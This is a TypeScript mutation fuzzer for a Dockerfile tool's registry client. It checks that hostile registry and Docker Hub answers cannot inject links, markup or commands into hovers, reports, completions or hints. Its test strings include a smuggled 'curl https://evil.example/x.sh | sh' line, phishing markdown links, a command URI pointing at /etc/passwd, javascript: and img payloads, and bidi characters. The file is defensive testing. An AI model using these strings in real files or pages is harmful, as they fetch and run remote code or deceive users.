// A mutation fuzzer over registry answers: manifests, indexes, configs, tag lists and Docker Hub's
// repository, tag and search answers, mutated structurally (hostile strings, odd numbers, swapped
// types, dropped keys, blown-up arrays) and byte by byte. Every input goes through the parsers and
// the whole client (a fake transport serving the mutated bodies), then through the renderers: the
// hover, the base-image report, tag completion and the digest-age inlay hint. Nothing may throw
// but a RegistryError, and nothing may render as a link, image, markup or command that dockwise
// did not build.
import { createHash } from 'node:crypto';
import { parseImageRef } from '../../server/src/language/imageRef';
import { buildModel } from '../../server/src/language/model';
import { completionContext, completionItems } from '../../server/src/features/completion';
import { inlayHints } from '../../server/src/features/inlayHints';
import { reportHtml, type BaseImageReport } from '../../server/src/registry/baseImageReport';
import { hubBadgeFrom, hubRepositoryFrom, hubTagFrom } from '../../server/src/registry/hub';
import { imageHover } from '../../server/src/registry/hoverContent';
import { imagePageUrl } from '../../server/src/language/imageRef';
import { indexPlatforms, OciClient, parseConfig, parseManifest, parseTagPage, type RegistryTransport } from '../../server/src/registry/ociClient';
import type { Response } from '../../server/src/registry/transport';
import { RegistryError, type ImageDescription, type PlatformImage } from '../../server/src/registry/types';
import { isTag } from '../../server/src/registry/validate';
import { picker } from './fuzzer';
import { unexpectedLinks } from './markdownLinks';

const sha256 = (body: string | Buffer) => `sha256:${createHash('sha256').update(body).digest('hex')}`;
const HEX = 'a'.repeat(64);

/** Strings a hostile registry would send. */
const HOSTILE: readonly string[] = [
  '[Security update required: click here](https://evil.example/x)',
  '![](https://evil.example/pixel.png)',
  'linux\n\n[Open the base image report](command:dockwise.showBaseImageReport?%5B%22file%3A%2F%2F%2Fetc%2Fpasswd%22%5D)',
  '<img src=https://evil.example/p.png>',
  '<https://evil.example>',
  'https://evil.example/a',
  'www.evil.example',
  'admin@evil.example',
  'mailto:admin@evil.example',
  '[ref]\n\n[ref]: https://evil.example',
  '| a | b |\n|---|---|',
  '`',
  '``x``',
  '\\',
  '**bold** _it_',
  '\u202eevil\u202c',
  '\u0000\u0007\u001b[31m',
  '&#91;x&#93;(https://evil.example)',
  'javascript:alert(1)',
  'x'.repeat(5000),
  '1.0\nRUN curl https://evil.example/x.sh | sh',
  'linux',
  'amd64',
  'arm64',
  'unknown',
  'v8',
  '',
  ' ',
  `sha256:${HEX}`,
  'sha256:../../../x',
  'sha512:' + 'b'.repeat(128),
  '2024-01-01T00:00:00Z',
  '2024-13-45T99:99:99Z',
  'application/vnd.oci.image.index.v1+json',
  'application/vnd.oci.image.manifest.v1+json',
  'application/vnd.docker.distribution.manifest.v2+json',
  'text/html',
];
const NUMBERS: readonly number[] = [0, 1, -1, 0.5, 1e308, -1e308, 2 ** 53 + 1, 4096, 1e21];

const config = {
  architecture: 'amd64',
  os: 'linux',
  created: '2026-10-01T12:00:00Z',
  config: { User: 'app', Cmd: ['python3'], Entrypoint: ['/entry'], WorkingDir: '/app', ExposedPorts: { '8000/tcp': {} }, Labels: { 'org.opencontainers.image.version': '3.12.7', 'org.opencontainers.image.source': 'https://github.com/x/y' } },
  rootfs: { type: 'layers', diff_ids: [`sha256:${HEX}`] },
};

/** The seeds: one answer of each kind, as registries and Hub send them. */
export const REGISTRY_SEEDS: readonly { readonly kind: Kind; readonly json: unknown }[] = [
  { kind: 'config', json: config },
  { kind: 'manifest', json: { schemaVersion: 2, mediaType: 'application/vnd.oci.image.manifest.v1+json', config: { mediaType: 'application/vnd.oci.image.config.v1+json', digest: `sha256:${HEX}`, size: 100 }, layers: [{ mediaType: 'application/vnd.oci.image.layer.v1.tar+gzip', digest: `sha256:${HEX}`, size: 30_000_000 }] } },
  { kind: 'manifest', json: { schemaVersion: 2, mediaType: 'application/vnd.docker.distribution.manifest.v2+json', config: { digest: `sha256:${HEX}`, size: 100 }, layers: [{ digest: `sha256:${HEX}`, size: 1 }, { digest: `sha256:${HEX}`, size: 2 }] } },
  {
    kind: 'index',
    json: {
      schemaVersion: 2,
      mediaType: 'application/vnd.oci.image.index.v1+json',
      manifests: [
        { mediaType: 'application/vnd.oci.image.manifest.v1+json', digest: `sha256:${HEX}`, size: 500, platform: { os: 'linux', architecture: 'amd64' } },
        { mediaType: 'application/vnd.oci.image.manifest.v1+json', digest: `sha256:${'b'.repeat(64)}`, size: 500, platform: { os: 'linux', architecture: 'arm64', variant: 'v8' } },
        { mediaType: 'application/vnd.oci.image.manifest.v1+json', digest: `sha256:${'c'.repeat(64)}`, size: 500, platform: { os: 'unknown', architecture: 'unknown' }, annotations: { 'vnd.docker.reference.type': 'attestation-manifest' } },
      ],
    },
  },
  { kind: 'tags', json: { name: 'library/python', tags: ['3', '3.12', '3.12.7-slim', 'latest', 'alpine'] } },
  { kind: 'hub-repository', json: { user: 'library', name: 'python', namespace: 'library', description: 'Python is an interpreted language. See [docs](https://example.invalid/x)', star_count: 10, pull_count: 1234567890, last_updated: '2026-11-20T08:15:00.000000Z' } },
  {
    kind: 'hub-tag',
    json: {
      name: '20.18-slim',
      digest: `sha256:${'d'.repeat(64)}`,
      media_type: 'application/vnd.oci.image.index.v1+json',
      last_updated: '2026-11-12T00:00:00Z',
      images: [
        { architecture: 'amd64', variant: null, digest: `sha256:${HEX}`, os: 'linux', size: 74213456 },
        { architecture: 'arm64', variant: 'v8', digest: `sha256:${'b'.repeat(64)}`, os: 'linux', size: 73001234 },
        { architecture: 'unknown', digest: `sha256:${'c'.repeat(64)}`, os: 'unknown', size: 12345 },
      ],
    },
  },
  { kind: 'hub-search', json: { count: 1, results: [{ name: 'someuser/tools', badge: 'verified_publisher' }, { name: 'other', badge: 'none' }] } },
  // What an older dockwise kept on disk without validating it: the right types, any strings.
  {
    kind: 'cached-description',
    json: {
      digest: `sha256:${HEX}`,
      mediaType: 'application/vnd.oci.image.index.v1+json',
      fetchedAt: 0,
      stale: true,
      platforms: [
        { os: 'linux', architecture: 'amd64', digest: `sha256:${HEX}`, compressedSize: 1000, config: { created: '2026-10-01T12:00:00Z', user: 'app', cmd: ['python3'], entrypoint: ['/e'], exposedPorts: ['80/tcp'], workingDir: '/app', labels: { 'org.opencontainers.image.version': '1', 'org.opencontainers.image.source': 's', 'org.opencontainers.image.licenses': 'MIT', 'org.opencontainers.image.revision': 'r' } } },
        { os: 'linux', architecture: 'arm64', variant: 'v8', digest: `sha256:${HEX}`, compressedSize: 900 },
      ],
    },
  },
];

type Kind = 'config' | 'manifest' | 'index' | 'tags' | 'hub-repository' | 'hub-tag' | 'hub-search' | 'cached-description';

const CONTENT_TYPES: readonly (string | null)[] = [null, 'application/json', 'application/vnd.oci.image.index.v1+json', 'application/vnd.oci.image.manifest.v1+json', 'application/vnd.docker.distribution.manifest.list.v2+json; charset=utf-8', 'text/html'];

type Pick = (n: number) => number;

/** One structural change somewhere in a JSON value. */
function mutateValue(value: unknown, pick: Pick, depth = 0): unknown {
  const roll = pick(12);
  if (depth > 6 || roll === 0) {
    // Replace this value wholesale.
    const options: unknown[] = [HOSTILE[pick(HOSTILE.length)], NUMBERS[pick(NUMBERS.length)], null, true, [], {}, [HOSTILE[pick(HOSTILE.length)]], { [HOSTILE[pick(HOSTILE.length)]!]: HOSTILE[pick(HOSTILE.length)] }];
    return options[pick(options.length)];
  }
  if (typeof value === 'string') return pick(3) === 0 ? `${value}${HOSTILE[pick(HOSTILE.length)]}` : HOSTILE[pick(HOSTILE.length)];
  if (typeof value === 'number') return NUMBERS[pick(NUMBERS.length)];
  if (Array.isArray(value)) {
    const copy = [...value];
    if (copy.length && roll < 5) copy[pick(copy.length)] = mutateValue(copy[pick(copy.length)], pick, depth + 1);
    else if (roll < 7 && copy.length) copy.splice(pick(copy.length), 1);
    else if (roll < 9) for (let n = 1 + pick(60); n > 0; n--) copy.push(copy.length ? mutateValue(copy[pick(copy.length)], pick, depth + 1) : HOSTILE[pick(HOSTILE.length)]);
    else copy.push(mutateValue(copy[0], pick, depth + 1));
    return copy;
  }
  if (value && typeof value === 'object') {
    const copy: Record<string, unknown> = { ...(value as Record<string, unknown>) };
    const keys = Object.keys(copy);
    if (keys.length && roll < 7) {
      const key = keys[pick(keys.length)]!;
      copy[key] = mutateValue(copy[key], pick, depth + 1);
    } else if (keys.length && roll < 9) delete copy[keys[pick(keys.length)]!];
    else copy[['mediaType', 'manifests', 'config', 'layers', 'platform', 'os', 'architecture', 'variant', 'created', 'tags', 'images', 'digest', 'description', 'last_updated'][pick(14)]!] = mutateValue(undefined, pick, 7);
    return copy;
  }
  return mutateValue(undefined, pick, 7);
}

/** Strings replaced by hostile ones and numbers by odd ones, every type kept (an older cache's descriptions). */
function mutateStrings(value: unknown, pick: Pick, renameKeys = false): unknown {
  if (typeof value === 'string') return pick(3) === 0 ? value : HOSTILE[pick(HOSTILE.length)];
  if (typeof value === 'number') return pick(3) === 0 ? value : Math.abs(NUMBERS[pick(NUMBERS.length)]!);
  if (Array.isArray(value)) return [...value, ...(pick(4) === 0 ? value : [])].map((v) => mutateStrings(v, pick));
  if (value && typeof value === 'object') {
    // Only label names are free text; every other key is the description's own.
    return Object.fromEntries(Object.entries(value).map(([k, v]) => [renameKeys && pick(3) === 0 ? HOSTILE[pick(HOSTILE.length)]! : k, mutateStrings(v, pick, k === 'labels')]));
  }
  return value;
}

/** The text of a mutated answer: structural mutations, then now and then a byte-level one. */
function mutateText(json: unknown, pick: Pick): string {
  let value = json;
  let text = JSON.stringify(value) ?? 'null';
  for (let m = 1 + pick(4); m > 0; m--) {
    // Growth compounds across mutations; an answer beyond the transport's 4 MB cap is not one to read.
    const next = mutateValue(value, pick);
    let size = Infinity;
    try {
      size = (JSON.stringify(next) ?? '').length;
    } catch {
      // Too large to serialise.
    }
    if (size <= 1_000_000) {
      value = next;
      text = JSON.stringify(value) ?? 'null';
    }
  }
  if (pick(8) === 0) {
    const at = pick(text.length + 1);
    text = pick(2) ? text.slice(0, at) : text.slice(0, at) + ['"', '{', ']', '\\', '\u0000', '\n'][pick(6)] + text.slice(at);
  }
  return text;
}

export interface RegistryInput {
  readonly kind: Kind;
  readonly text: string;
  readonly contentType: string | null;
}

export function mutateRegistry(pick: Pick): RegistryInput {
  const seed = REGISTRY_SEEDS[pick(REGISTRY_SEEDS.length)]!;
  const text = seed.kind === 'cached-description' ? JSON.stringify(mutateStrings(seed.json, pick)) : mutateText(seed.json, pick);
  return { kind: seed.kind, text, contentType: CONTENT_TYPES[pick(CONTENT_TYPES.length)]! };
}

const ALLOWED_TAGS = new Set(['html', 'head', 'meta', 'title', 'style', 'body', 'h1', 'h2', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'code', 'p', 'section', 'span', 'svg', 'g', 'text', 'rect']);
const REF = parseImageRef('python:3.12-slim')!.ref;
const TAG_MODEL = buildModel('FROM python:\n');
const TAG_CONTEXT = completionContext(TAG_MODEL, { line: 0, character: 12 });
const DIGEST_MODEL = buildModel(`FROM python:3.12-slim@sha256:${HEX}\n`);
const BUILT_LINKS = [`[Open the image's page](${imagePageUrl(REF)})`];

/** What is wrong with the rendering of one description (and friends), if anything. */
function checkRendering(description: ImageDescription, tags: readonly string[], hub: ReturnType<typeof hubRepositoryFrom> | undefined): string | undefined {
  const hover = imageHover(REF, { description, newer: tags.slice(0, 4), ...(hub ? { hub } : {}) }, ['linux/amd64', 'linux/arm64']);
  const links = unexpectedLinks(hover, BUILT_LINKS);
  if (links.length) return `hover link: ${links[0]}`;
  if (hover.length > 16_000) return `hover of ${hover.length} characters`;
  // eslint-disable-next-line no-control-regex
  if (/[\u0000-\u0008\u000b-\u001f\u007f\u202a-\u202e\u2066-\u2069]/.test(hover)) return 'hover with control or bidi characters';
  const report: BaseImageReport = { ref: REF, rows: [{ label: '3.12-slim', ref: REF, current: true, description }, { label: HOSTILE[0]!, ref: REF, current: false, error: HOSTILE[3]! }], sameDigest: tags.slice(0, 3) };
  const html = reportHtml(report, 'nonce');
  // Escaped text has no `<`, so every `<` starts markup dockwise wrote: only known elements, no attribute that loads or runs.
  for (const match of html.matchAll(/<\/?([A-Za-z!][A-Za-z0-9]*)([^>]*)>/g)) {
    const tag = match[1]!.toLowerCase();
    if (tag !== '!doctype' && !ALLOWED_TAGS.has(tag)) return `report markup <${tag}>`;
    if (/(?:^|\s)(?:on\w+|href|src|xlink:href|style)\s*=/i.test(match[2]!)) return `report attribute in <${tag}${match[2]!.slice(0, 60)}>`;
  }
  if (TAG_CONTEXT) {
    for (const item of completionItems(TAG_MODEL, TAG_CONTEXT, tags)) {
      const text: string = item.textEdit && 'newText' in item.textEdit ? item.textEdit.newText : '';
      if (!isTag(text)) return `completion inserts ${JSON.stringify(String(text).slice(0, 60))}`;
    }
  }
  const created = description.platforms[0]?.config?.created;
  for (const hint of inlayHints(DIGEST_MODEL, { start: { line: 0, character: 0 }, end: { line: 1, character: 0 } }, { resolvedImages: true, digestAge: true, createdOf: () => created, now: Date.parse('2027-01-01T00:00:00Z') })) {
    const tooltip = typeof hint.tooltip === 'string' ? hint.tooltip : '';
    if (typeof hint.label !== 'string' || !/^built (?:today|-?\d+ days ago)$/.test(hint.label) || !/^Created \d{4}-\d\d-\d\d;/.test(tooltip)) return `inlay hint ${JSON.stringify(hint.label)} ${JSON.stringify(tooltip)}`;
  }
  return undefined;
}

const response = (body: string, contentType: string | null, url: URL): Response => ({
  status: 200,
  headers: new Headers(contentType ? { 'content-type': contentType } : {}),
  body: Buffer.from(body),
  url,
});

const notFound = (url: URL) => Promise.reject(new RegistryError('not-found', `${url.pathname} was not found.`));

/** Checks one mutated answer; returns what is wrong, if anything. */
export async function checkRegistry(input: RegistryInput): Promise<string | undefined> {
  const body = Buffer.from(input.text);
  const host = 'registry.example';
  const only = <T>(run: () => T): T | undefined => {
    try {
      return run();
    } catch (error) {
      if (error instanceof RegistryError) return undefined;
      throw error;
    }
  };
  try {
    let description: ImageDescription | undefined;
    let tags: readonly string[] = ['3.12.8-slim'];
    let hub: ReturnType<typeof hubRepositoryFrom> | undefined;
    let json: unknown;
    try {
      json = JSON.parse(input.text);
    } catch {
      // Not JSON: the parsers must say so with a RegistryError; the Hub readers get nothing.
    }
    switch (input.kind) {
      case 'config': {
        const parsed = only(() => parseConfig(body, sha256(body), host));
        if (parsed) {
          const platform: PlatformImage = { os: parsed.os ?? 'unknown', architecture: parsed.architecture ?? 'unknown', digest: `sha256:${HEX}`, compressedSize: 1000, config: parsed.summary };
          description = { digest: `sha256:${HEX}`, mediaType: 'application/vnd.oci.image.manifest.v1+json', platforms: [platform], fetchedAt: 0 };
        }
        break;
      }
      case 'manifest':
      case 'index': {
        const parsed = only(() => parseManifest(body, input.contentType, host));
        if (parsed?.kind === 'index') {
          const { read, more } = indexPlatforms(parsed.json);
          if (read.length > 16 || more.length > 64) return `index reads ${read.length} platforms and lists ${more.length}`;
        }
        // The whole client, over a transport that serves the mutated answer for the reference and
        // a fitting config and child manifest for every digest it names.
        const child = JSON.stringify({ schemaVersion: 2, mediaType: 'application/vnd.oci.image.manifest.v1+json', config: { digest: sha256(JSON.stringify(config)), size: 1 }, layers: [{ size: 10 }] });
        const bodies = new Map([[sha256(child), child], [sha256(JSON.stringify(config)), JSON.stringify(config)]]);
        let requests = 0;
        const transport: RegistryTransport = {
          request: async (url) => {
            requests++;
            const last = decodeURIComponent(url.pathname.split('/').at(-1) ?? '');
            if (last === '1.0') return response(input.text, input.contentType, url);
            const known = bodies.get(last);
            // Every descriptor digest gets the child manifest: that is where a fan-out would show.
            if (!known && /manifests\//.test(url.pathname)) return response(child, 'application/vnd.oci.image.manifest.v1+json', url);
            return known ? response(known, null, url) : notFound(url);
          },
        };
        description = await new OciClient(transport).describe(parseImageRef('registry.example/app:1.0')!.ref).catch((error: unknown) => {
          if (error instanceof RegistryError) return undefined;
          throw error;
        });
        if (requests > 1 + 16 + 16) return `${requests} requests for one image`;
        break;
      }
      case 'tags': {
        const parsed = only(() => parseTagPage(body, host));
        if (parsed) {
          if (!parsed.every(isTag)) return 'a tag outside the grammar was kept';
          tags = parsed;
        }
        // Renderers also see raw lists, as an older cache could hold them.
        if (json && typeof json === 'object' && Array.isArray((json as { tags?: unknown }).tags)) tags = [...tags, ...((json as { tags: unknown[] }).tags.filter((t): t is string => typeof t === 'string'))];
        break;
      }
      case 'hub-repository':
        hub = hubRepositoryFrom(json, 'official');
        break;
      case 'hub-tag':
        description = hubTagFrom(json, 0);
        break;
      case 'hub-search':
        hubBadgeFrom(json, 'someuser/tools');
        break;
      case 'cached-description':
        // Rendered as it is: the hover, report and hints must hold without the client's validation.
        description = json as ImageDescription;
        tags = [...tags, ...HOSTILE];
        break;
    }
    const fallback: ImageDescription = { digest: `sha256:${HEX}`, mediaType: 'application/vnd.oci.image.index.v1+json', platforms: [{ os: 'linux', architecture: 'amd64', digest: `sha256:${HEX}`, compressedSize: 10 }], fetchedAt: 0 };
    return checkRendering(description ?? fallback, tags, hub);
  } catch (error) {
    return `exception: ${error instanceof Error ? `${error.name}: ${error.message.split('\n')[0]}` : String(error)}`;
  }
}

export interface RegistryFailure {
  readonly input: RegistryInput;
  readonly problem: string;
}

export async function fuzzRegistry(runs: number, seed: number, onFailure: (f: RegistryFailure) => void): Promise<number> {
  const pick = picker(seed);
  let failures = 0;
  for (let run = 0; run < runs; run++) {
    const input = mutateRegistry(pick);
    const problem = await checkRegistry(input);
    if (problem) {
      failures++;
      onFailure({ input, problem });
    }
  }
  return failures;
}

/** For the hostile suite: the rendering checks alone, on a description as an older cache may hold it (never validated). */
export { checkRendering };
